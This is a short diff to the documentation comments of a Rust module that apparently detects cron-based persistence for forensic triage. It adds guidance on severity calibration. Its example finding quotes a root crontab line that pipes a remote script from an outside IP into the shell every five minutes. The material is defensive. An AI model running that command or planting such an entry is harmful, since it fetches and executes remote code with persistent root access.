@@ -16,6 +16,10 @@
 //! **Example:** `/var/spool/cron/crontabs/root` line 1:
 //! `*/5 * * * * curl -fsSL http://198.51.100.4/x.sh | sh` (high).
 //!
+//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
+//! high); critical or high only for evidence that an attacker acted, medium for what needs a
+//! look, low and info for context (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1053.003 (Scheduled Task/Job: Cron).
 
 use huoyan_artifacts::persistence::cron::{parse_anacrontab, parse_crontab, Crontab};
